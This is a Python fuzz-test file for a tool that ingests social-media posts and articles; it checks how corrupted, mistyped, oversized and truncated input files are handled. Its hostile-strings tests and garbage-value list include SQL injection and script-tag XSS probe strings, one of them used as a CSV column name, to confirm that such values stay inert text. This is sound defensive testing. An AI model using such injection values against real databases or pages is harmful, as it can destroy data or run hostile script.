@given(name=st.sampled_from(ALL), fraction=st.floats(0, 1), junk=JUNK)
def test_inserted_bytes(fuzz: Bench, name: str, fraction: float, junk: bytes):
    spec = SPECS[name]
    doc = spec.doc()
    data = doc.data
    junk = clean_junk(junk, spec)
    position = round(fraction * len(data))
    damaged = data[:position] + junk + data[position:]
    outcome = run(fuzz, spec, damaged)
    file = outcome.file
    if spec.kind == "blob":
        assert file.error is None
        assert file.articles_added + file.quarantined == 1
        return
    hit = doc.record_at(position)
    if spec.line_oriented and position < len(doc.head):
        # A damaged CSV header: the file is refused, or each record is read or quarantined.
        if file.error is None:
            assert added(outcome, spec) + file.quarantined == N
        return
    assert file.error is None
    if not spec.line_oriented:
        before = {k for k, (_, end) in enumerate(doc.spans()) if end <= position}
        assert_kept(outcome, spec, doc, skip=set(range(len(doc.records))) - before)
        return
    others = set() if hit is None else {hit}
    assert_kept(outcome, spec, doc, skip=others)
    posts = added(outcome, spec)
    total = sum(len(texts) for texts in doc.texts)
    if hit is None:  # junk on a line of its own after the last record
        assert posts == total and file.quarantined <= 1
    elif spec.per_record == 1:
        assert posts + file.quarantined == total
    else:
        assert posts == total or file.quarantined == 1


# ================================================================ (3) wrong types and garbage values

WRONG = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.lists(st.integers(), max_size=3),
    st.lists(st.dictionaries(st.sampled_from(["id", "text", "type"]), st.integers()), max_size=2),
    st.dictionaries(st.sampled_from(["id", "text", "x"]), st.integers(), max_size=2),
    st.sampled_from([2**63, -(2**63) - 1, 2**70, 1e300, [[]], [{}], {"a": []}]),
)


def strictly_wrong(value: Any) -> bool:
    """Not text, number or null: an object, a non-empty list or a boolean."""
    return isinstance(value, bool | dict) or (isinstance(value, list) and bool(value))


def set_path(record: Any, path: str, value: Any) -> None:
    *parents, last = path.split(".")
    target = record
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target[part]
    if isinstance(target, list):
        target[int(last)] = value
    else:
        target[last] = value


@for_each(JSON_FORMATS, index=1, choice=0, value=[{"text": 1}])
@FUZZ
@given(
    name=st.sampled_from(JSON_FORMATS),
    index=st.integers(0, N - 1),
    choice=st.integers(0, 1000),
    value=WRONG,
)
def test_wrong_json_type(fuzz: Bench, name: str, index: int, choice: int, value: Any):
    spec = SPECS[name]
    objects, groups = spec.objects(sample_texts(N * spec.per_record))
    fields = spec.required + spec.paths
    path = fields[choice % len(fields)]
    set_path(objects[index], path, value)
    doc = spec.serialize(objects, groups)
    outcome = run(fuzz, spec, doc.data)
    file = outcome.file
    assert file.error is None
    assert_kept(outcome, spec, doc, skip={index})
    posts = added(outcome, spec)
    total = N * spec.per_record
    must_fail = path in spec.required and strictly_wrong(value)
    if spec.per_record == 1:
        # Each record is stored or quarantined with a reason: none vanishes.
        assert posts + file.quarantined == total, (path, value, outcome.quarantine)
        if must_fail:
            assert posts == total - 1, (path, value)
    else:
        assert posts == total or file.quarantined >= 1, (path, value)
        if must_fail:
            assert posts < total and file.quarantined >= 1, (path, value)


GARBAGE_TIME = st.one_of(
    st.sampled_from(
        [
            "",
            "   ",
            "yesterday",
            "now",
            "epoch",
            "infinity",
            "-infinity",
            "2017-13-45 99:99",
            "31/31/2017 25:61",
            "2024-02-30T10:00:00Z",
            "-1",
            "0",
            "1e309",
            "NaN",
            "null",
            "'; DROP TABLE posts; --",
            "<script>alert(1)</script>",
            "🕒",
        ]
    ),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30).map(
        lambda text: "~" + text
    ),
)


@for_each(CSV_FORMATS, index=2, column="time", garbage="infinity")
@FUZZ
@given(
    name=st.sampled_from(CSV_FORMATS),
    index=st.integers(0, N - 1),
    column=st.sampled_from(["time", "count"]),
    garbage=GARBAGE_TIME,
)
def test_garbage_csv_value(fuzz: Bench, name: str, index: int, column: str, garbage: str):
    spec = SPECS[name]
    objects, groups = spec.objects(sample_texts())
    target = spec.time_column if column == "time" else spec.count_column
    objects[index][spec.header.index(target)] = garbage
    doc = spec.serialize(objects, groups)
    outcome = run(fuzz, spec, doc.data)
    file = outcome.file
    assert file.error is None
    assert_kept(outcome, spec, doc, skip={index})
    if column == "count":  # an unreadable count is unknown; the post stays
        assert file.posts_added == N and file.quarantined == 0
        return
    assert file.posts_added == N - 1, (garbage, outcome.quarantine)
    assert file.quarantined == 1
    ((_, line, _, reason, _),) = outcome.quarantine
    assert line == doc.start_line(index)
    assert "time" in reason


# ================================================================ (4) a huge field


@pytest.mark.parametrize("name", POST_FORMATS)
def test_huge_text_is_quarantined_with_its_size(fuzz: Bench, name: str):
    spec = SPECS[name]
    texts = sample_texts(N * spec.per_record)
    huge = ("big " * HUGE_CHARS)[:HUGE_CHARS]
    texts[1] = huge
    doc = spec.doc(texts)
    outcome = run(fuzz, spec, doc.data)
    file = outcome.file
    assert file.error is None
    assert file.posts_added == len(texts) - 1
    assert file.quarantined == 1, outcome.quarantine
    ((_, _, _, reason, excerpt),) = outcome.quarantine
    assert f"{len(spec.stored(huge).encode()):,}" in reason and "bytes" in reason, reason
    assert len(excerpt) <= EXCERPT_LIMIT
    expected = Counter(spec.stored(text) for text in texts if text is not huge)
    assert outcome.stored("posts") == expected


def test_huge_csv_record_larger_than_a_parser_block(fuzz: Bench):
    # Over the CSV reader's 4 MiB block: the record-by-record path takes over.
    spec = SPECS["ira-csv"]
    texts = sample_texts()
    texts[2] = "x" * 5_000_000
    outcome = run(fuzz, spec, spec.doc(texts).data)
    assert outcome.file.posts_added == N - 1
    ((_, line, _, reason, _),) = outcome.quarantine
    assert line == 4 and "5,000,000 bytes" in reason
    assert outcome.stored("posts") == Counter(t for i, t in enumerate(texts) if i != 2)


@pytest.mark.parametrize("name", ["article-jsonl", "article-text", "article-html"])
def test_long_article_is_kept(fuzz: Bench, name: str):
    # Articles may be long: a 3,000,000-character text is kept whole.
    spec = SPECS[name]
    texts = sample_texts()
    texts[1] = ("word " * HUGE_CHARS)[: HUGE_CHARS - 1] + "."
    outcome = run(fuzz, spec, spec.doc(texts).data)
    assert outcome.file.error is None and outcome.file.quarantined == 0
    if name == "article-jsonl":
        assert outcome.stored("articles") == Counter(texts)
    else:
        (stored,) = outcome.articles
        assert texts[1] in stored


@pytest.mark.parametrize("name", ["article-jsonl", "article-text"])
def test_oversized_article_is_quarantined_with_its_size(fuzz: Bench, name: str):
    spec = SPECS[name]
    texts = sample_texts()
    texts[1] = "w" * 10_500_000
    outcome = run(fuzz, spec, spec.doc(texts).data)
    file = outcome.file
    assert file.error is None and file.quarantined == 1
    ((_, _, _, reason, excerpt),) = outcome.quarantine
    assert "characters" in reason and "10,5" in reason, reason
    assert len(excerpt) <= EXCERPT_LIMIT
    if name == "article-jsonl":
        assert outcome.stored("articles") == Counter(t for i, t in enumerate(texts) if i != 1)


# ================================================================ (5) hostile strings


@pytest.mark.parametrize("name", RECORD_FORMATS)
def test_hostile_strings_round_trip(fuzz: Bench, name: str):
    spec = SPECS[name]
    texts = [*HOSTILE, *sample_texts(1)]
    if spec.per_record > 1 and len(texts) % spec.per_record:
        texts.append("padding")
    doc = spec.doc(texts)
    outcome = run(fuzz, spec, doc.data, frames=True)
    assert outcome.file.error is None
    assert outcome.file.quarantined == 0, outcome.quarantine
    assert outcome.stored(spec.table) == Counter(spec.stored(text) for text in texts)


def test_hostile_text_article(fuzz: Bench):
    spec = SPECS["article-text"]
    outcome = run(fuzz, spec, spec.doc(list(HOSTILE)).data, frames=True)
    (stored,) = outcome.articles
    assert stored == "\n\n".join(HOSTILE).replace("\r\n", "\n").strip()


def test_hostile_html_article(fuzz: Bench):
    spec = SPECS["article-html"]
    texts = [f"{text} — paragraph {i} of the leaked report." for i, text in enumerate(HOSTILE)]
    outcome = run(fuzz, spec, spec.doc(texts).data, frames=True)
    assert outcome.file.error is None
    (stored,) = outcome.articles
    assert "<script>alert(1)</script>" in stored  # escaped text stays text
    assert "'; DROP TABLE posts; --" in stored
    assert "window.tracker" not in stored  # a real script is not article text


@pytest.mark.parametrize("slow", [False, True])
def test_hostile_column_names_and_mapping(fuzz: Bench, slow: bool):
    # Quoted names with quotes, SQL and a line break: the header spans two lines.
    header = ['user "id"', "when'; DROP TABLE posts; --", "bo\ndy", "x,y"]
    rows = [[f"acct{i}", at(i).isoformat(), text, "1"] for i, text in enumerate(HOSTILE)]
    short = csv_line(["acct_short", "2024-03-01T12:00:00Z"])
    data = csv_line(header) + b"".join(csv_line(row) for row in rows) + short
    if slow:  # invalid UTF-8 sends the file to the record-by-record reader
        data = data.replace(b"NULL", b"NULL\xff")
    mapping = {"account_id": header[0], "created_at": header[1], "text": header[2]}
    outcome = ingest(fuzz, write(fuzz, "columns.csv", data), mapping=mapping, frames=True)
    assert outcome.file.error is None
    expected = [text + "\ufffd" if slow and text == "NULL" else text for text in HOSTILE]
    assert outcome.stored("posts") == Counter(expected)
    ((_, line, _, reason, _),) = outcome.quarantine
    assert reason == "expected 4 fields, found 2"
    assert line == data[: data.index(b"acct_short")].count(b"\n") + 1


RANDOM_TEXT = st.text(
    st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=40
)


@for_each(["csv", "mastodon", "twitter-v1"], texts=["\r", "\u2028\u0085", '",\n"'])
@FUZZ
@given(name=st.sampled_from(RECORD_FORMATS), texts=st.lists(RANDOM_TEXT, min_size=3, max_size=3))
def test_random_text_round_trips(fuzz: Bench, name: str, texts: list[str]):
    spec = SPECS[name]
    texts = [*texts, *sample_texts(1)]
    outcome = run(fuzz, spec, spec.doc(texts).data, frames=True)
    assert outcome.file.error is None
    assert outcome.file.quarantined == 0, outcome.quarantine
    assert outcome.stored(spec.table) == Counter(spec.stored(text) for text in texts)


# ================================================================ (6) extra or missing CSV fields

SHAPES = st.sampled_from(
    [
        "plain text",
        "two\nlines",
        "three\nline\ntext",
        'a "quoted" word, and a comma',
        "carriage\r\nreturn",
        "lone\rcarriage return",
    ]
)


@for_each(CSV_FORMATS, index=0, change=3, shapes=["two\nlines"] * N, slow=False)
@FUZZ
@given(
    name=st.sampled_from(CSV_FORMATS),
    index=st.integers(0, N - 1),
    change=st.one_of(st.integers(1, 4), st.integers(-45, -1)),
    shapes=st.lists(SHAPES, min_size=N, max_size=N),
    slow=st.booleans(),
)
def test_csv_line_with_wrong_field_count(
    fuzz: Bench, name: str, index: int, change: int, shapes: list[str], slow: bool
):
    spec = SPECS[name]
    texts = [f"{shape} [{i}]" for i, shape in enumerate(shapes)]
    objects, groups = spec.objects(texts)
    width = len(spec.header)
    row = objects[index]
    found = max(1, width + change)
    objects[index] = row[:found] if found < width else row + ["extra"] * change
    doc = spec.serialize(objects, groups)
    other = (index + 1) % N
    if slow:  # invalid UTF-8 elsewhere: the record-by-record reader must agree
        doc.records[other] = doc.records[other].replace(
            f"[{other}]".encode(), f"[{other}]".encode() + b"\xff"
        )
        doc.texts[other] = [texts[other].replace(f"[{other}]", f"[{other}]\ufffd")]
    outcome = run(fuzz, spec, doc.data)
    file = outcome.file
    assert file.error is None
    assert file.posts_added == N - 1, outcome.quarantine
    assert_kept(outcome, spec, doc, skip={index})
    ((_, line, location, reason, _),) = outcome.quarantine
    assert reason == f"expected {width} fields, found {found}"
    assert line == doc.start_line(index) and location == f"line {line}"
    assert slow == any("record by record" in note for note in file.notes)


# ================================================================ detection on damaged and random input


@st.composite
def unknown_input(draw) -> tuple[bytes, dict[str, str] | None]:
    """Random bytes (with or without a mapping), or a seed cut short or spliced with junk."""
    if draw(st.booleans()):
        mapped = draw(st.booleans())
        return draw(st.binary(max_size=3000)), {
            "account_id": "a",
            "created_at": "b",
        } if mapped else None
    spec = SPECS[draw(st.sampled_from(ALL))]
    data = spec.doc().data
    position = round(draw(st.floats(0, 1)) * len(data))
    if draw(st.booleans()):
        return data[:position], spec.mapping
    return data[:position] + draw(JUNK) + data[position:], spec.mapping


@FUZZ
@given(case=unknown_input())
def test_unknown_input_is_detected_or_refused(fuzz: Bench, case: tuple[bytes, Any]):
    # No format given: detection must pick a reader or refuse the file with one line.
    data, mapping = case
    ingest(fuzz, write(fuzz, "unknown.bin", data), mapping=mapping)


# ================================================================ compressed files cut short

COMPRESSORS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
}
OPENERS: dict[str, Callable[[io.BytesIO], Any]] = {
    "gzip": lambda raw: gzip.GzipFile(fileobj=raw),
    "bz2": bz2.BZ2File,
    "xz": lzma.LZMAFile,
}


def readable_prefix(codec: str, packed: bytes) -> bytes:
    """What the standard library can decompress of ``packed`` before it fails."""
    out = bytearray()
    try:
        with OPENERS[codec](io.BytesIO(packed)) as stream:
            while chunk := stream.read(1 << 12):
                out += chunk
    except (EOFError, OSError, lzma.LZMAError, zlib.error):
        pass
    return bytes(out)


@for_each(["ira-csv", "twitter-v1", "telegram", "article-html"], codec="gzip", fraction=0.8)
@FUZZ
@given(
    name=st.sampled_from(ALL),
    codec=st.sampled_from(sorted(COMPRESSORS)),
    fraction=st.floats(0, 1),
)
def test_truncated_compressed_file(fuzz: Bench, name: str, codec: str, fraction: float):
    spec = SPECS[name]
    doc = spec.doc()
    packed = COMPRESSORS[codec](doc.data)
    cut = round(fraction * len(packed))
    outcome = run(fuzz, spec, packed[:cut])
    file = outcome.file
    if cut == len(packed):
        assert file.error is None and file.quarantined == 0
        return
    if cut < 6:  # not even the magic bytes: read as the plain bytes it is
        return
    # The damage is reported, as the whole file or as a quarantine row ...
    reasons = [reason for *_, reason, _ in outcome.quarantine]
    assert file.error or any(r.startswith("compressed data is damaged") for r in reasons)
    # ... and the records decompressed before it are kept.
    prefix = readable_prefix(codec, packed[:cut])
    if file.error is None and spec.kind != "blob":
        before = {k for k, (_, end) in enumerate(doc.spans()) if end <= len(prefix)}
        assert_kept(outcome, spec, doc, skip=set(range(len(doc.records))) - before)


def test_truncated_zstd_file_is_reported(fuzz: Bench):
    spec = SPECS["twitter-v1"]
    packed = zstandard.ZstdCompressor().compress(spec.doc(sample_texts(40)).data)
    outcome = run(fuzz, spec, packed[: len(packed) // 2])
    reasons = [reason for *_, reason, _ in outcome.quarantine]
    assert outcome.file.error or any("compressed" in reason for reason in reasons)
